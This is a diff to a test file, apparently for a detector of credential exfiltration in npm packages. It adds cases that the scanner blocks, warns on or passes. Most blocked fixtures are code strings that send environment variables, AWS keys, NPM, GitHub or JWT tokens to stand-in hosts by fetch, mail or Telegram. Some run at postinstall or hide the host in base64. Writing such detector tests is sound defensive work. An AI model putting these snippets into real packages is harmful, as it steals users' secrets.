@@ -2,6 +2,16 @@ import { asCommand, atInstall, base64, describeVerdicts, hex } from "../../suppo
 
 const url = "https://files.example.test/c";
 
+/** A command that asks some module what to say about a build. */
+function withProvider(provider: string): string {
+  return `
+    const path = require("path");
+    const provider = ${provider};
+    const Provider = provider.default || provider;
+    const source = new Provider(process.env);
+    fetch("${url}", { method: "POST", body: JSON.stringify({ build: source.build }) });`;
+}
+
 describeVerdicts("EXF-01", {
   blocks: {
     "line by line, as a mail": `
@@ -18,6 +28,15 @@ describeVerdicts("EXF-01", {
       const report = process.report.getReport();
       const { environmentVariables } = typeof report === "string" ? JSON.parse(report) : report;
       fetch("${url}", { method: "POST", body: JSON.stringify(environmentVariables) });`,
+    "all but what begins as the settings of one tool": asCommand(`
+      const rest = Object.fromEntries(Object.entries(process.env).filter(([key]) => !key.startsWith("SAMPLE_")));
+      fetch("${url}", { method: "POST", body: JSON.stringify(rest) });`),
+    "what begins as the keys of a service that everybody has": asCommand(`
+      const keys = Object.fromEntries(Object.entries(process.env).filter(([key]) => key.startsWith("AWS_")));
+      fetch("${url}", { method: "POST", body: JSON.stringify(keys) });`),
+    "put in place of itself": `
+      process.env = { ...process.env, MODE: "x" };
+      fetch("${url}", { method: "POST", body: JSON.stringify(process.env) });`,
     "a request at install": atInstall(
       `const https = require("https");
        const data = JSON.stringify(process.env);
@@ -75,9 +94,23 @@ describeVerdicts("EXF-01", {
           bus.on("ready", async (body) => { await got.post("https://files.example.test/c", { body }); });`,
       },
     },
+    "through a package that is given it": asCommand(withProvider(`require("providers")`)),
+    "through one of several, of which one is the project's": asCommand(
+      withProvider(
+        `process.argv[2] ? require(path.resolve(process.cwd(), process.argv[2])) : require("providers")`,
+      ),
+    ),
+    "through a package among the project's": asCommand(
+      withProvider(`require(path.join(process.cwd(), "node_modules", process.argv[2] || "x"))`),
+    ),
     "as a letter": `
       require("nodemailer").createTransport({ service: "gmail", auth: { user: "a@files.example", pass: "x" } })
         .sendMail({ to: "b@files.example", subject: "e", text: JSON.stringify(process.env) });`,
+  },
+  warns: {
+    "what begins as the settings of one tool": asCommand(`
+      const ours = Object.fromEntries(Object.entries(process.env).filter(([key]) => key.startsWith("SAMPLE_")));
+      fetch("${url}", { method: "POST", body: JSON.stringify(ours) });`),
   },
   passes: {
     "the environment of a process": `
@@ -97,6 +130,9 @@ describeVerdicts("EXF-01", {
       const config = Object.assign({}, process.env);
       exports.get = (key) => config[key];
       exports.latest = async () => (await fetch("${url}")).json();`,
+    "a module of the project that is given it": asCommand(
+      withProvider(`require(path.resolve(process.cwd(), process.argv[2]))`),
+    ),
     "a command that prints it": asCommand(`console.log(JSON.stringify(process.env, null, 2));`),
   },
 });
@@ -120,6 +156,37 @@ describeVerdicts("EXF-02", {
       const k = ["NPM", "TOKEN"].join("_");
       const h = ["files", "example", "test"].join(".");
       fetch("https://" + h, { method: "POST", body: process.env[k] });`,
+    "the package's own name at the beginning, and a service that everybody has a key for": {
+      manifest: { name: "github-helper" },
+      files: {
+        "README.md": "Talks to https://files.example.test for you.",
+        "index.js": `exports.get = () => fetch("${url}", { headers: { authorization: process.env.GITHUB_TOKEN } });`,
+      },
+    },
+    "its own at install, without a scope": {
+      manifest: { name: "acme", scripts: { postinstall: "node index.js" } },
+      files: {
+        "README.md": "Talks to https://api.acme.test for you.",
+        "index.js": `fetch("https://api.acme.test/c", { headers: { authorization: process.env.ACME_TOKEN } });`,
+      },
+    },
+    "what many projects call so, to a host of the package's name": {
+      manifest: { name: "pacer" },
+      files: {
+        "README.md": "Talks to https://beat.pacer.test for you.",
+        "index.js": `exports.get = () => fetch("https://beat.pacer.test/c", { headers: { authorization: process.env.JWT_SECRET } });`,
+      },
+    },
+    "of a bot, in a message to somebody else's": `
+      exports.get = () => fetch("https://api.telegram.org/bot12345:abcdef/sendMessage", { method: "POST", body: JSON.stringify({ chat_id: 1, text: process.env.BOT_TOKEN }) });`,
+    "an own key to a host that was hidden": {
+      manifest: { name: "acme-cli" },
+      files: {
+        "index.js": `
+          const to = Buffer.from("${base64("https://acme.files-example.test/c")}", "base64").toString();
+          exports.get = () => fetch(to, { headers: { authorization: process.env.ACME_TOKEN } });`,
+      },
+    },
     "split over files": {
       files: {
         "index.js": `require("./send")(require("./read"));`,
@@ -132,6 +199,14 @@ describeVerdicts("EXF-02", {
       const to = Buffer.from("${base64(url)}", "base64").toString();
       fetch(to, { method: "POST", body: Buffer.from(process.env[name] ?? "").toString("hex") });`,
   },
+  warns: {
+    "the package's own, to a host that it does not tell of": {
+      manifest: { name: "task-runner-ai" },
+      files: {
+        "index.js": `exports.get = () => fetch("https://api.hub.example/c", { headers: { authorization: process.env.TASKRUNNER_TOKEN } });`,
+      },
+    },
+  },
   passes: {
     "a client of the service": `
       module.exports = (path) => fetch("https://api.github.com" + path, { headers: { authorization: "Bearer " + process.env.GITHUB_TOKEN } });`,
@@ -143,6 +218,39 @@ describeVerdicts("EXF-02", {
       module.exports = (name) => fetch("https://files.example.test/users/" + name + "?v=" + all.api);`,
     "a client of a service of that name": `
       exports.ask = (q) => fetch("https://api.acme.test/v1", { method: "POST", body: q, headers: { "x-api-key": process.env.ACME_API_KEY } });`,
+    "a client of a service whose host begins with that name": `
+      exports.ask = (q) => fetch("https://api.beaconcloud.test/v1?q=" + q, { headers: { authorization: process.env.BEACON_TOKEN } });`,
+    "the package's own, to the host that it tells of": {
+      manifest: { name: "task-runner-ai" },
+      files: {
+        "README.md": "Sign in at https://hub.example first.",
+        "index.js": `exports.get = () => fetch("https://api.hub.example/c", { headers: { authorization: process.env.TASKRUNNER_TOKEN } });`,
+      },
+    },
+    "its own at install, for the host that its scope is called by": {
+      manifest: { name: "@acme/report", scripts: { postinstall: "node index.js" } },
+      files: {
+        "README.md": "Counts installs at https://acme.test. ACME_ANALYTICS=false turns it off.",
+        "index.js": `if (process.env.ACME_ANALYTICS !== "false") fetch("https://acme.test/installed", { headers: { authorization: process.env.ACME_API_TOKEN } });`,
+      },
+    },
+    "a host whose first part stands in the key": `
+      const auth = () => process.env.STORE_RW_TOKEN;
+      exports.get = (path) => {
+        const token = auth();
+        const id = atob(token.split("_")[3]);
+        return fetch("https://" + id + ".public.store.example-storage.test/" + path, { headers: { authorization: "Bearer " + token } });
+      };`,
+    "a bot that logs in": asCommand(`
+      const token = process.argv[2] || process.env.BOT_TOKEN;
+      const call = (method, body) => fetch("https://api.telegram.org/bot" + token + "/" + method, { method: "POST", body: JSON.stringify(body) });
+      call("setWebhook", { url: "https://" + process.argv[3] });`),
+    "an address that nobody can tell, in code that says for whom it is": `
+      exports.get = async (path) => {
+        const base = (await import("./own-base.js")).base();
+        const headers = base.endsWith("api.sample.example") ? { authorization: process.env.SAMPLE_API_KEY } : {};
+        return fetch(base + path, { headers });
+      };`,
     "the caller's address": `
       module.exports = ({ baseUrl }) => fetch(baseUrl, { headers: { authorization: process.env.MY_TOKEN } });`,
     "only whether it is there": `
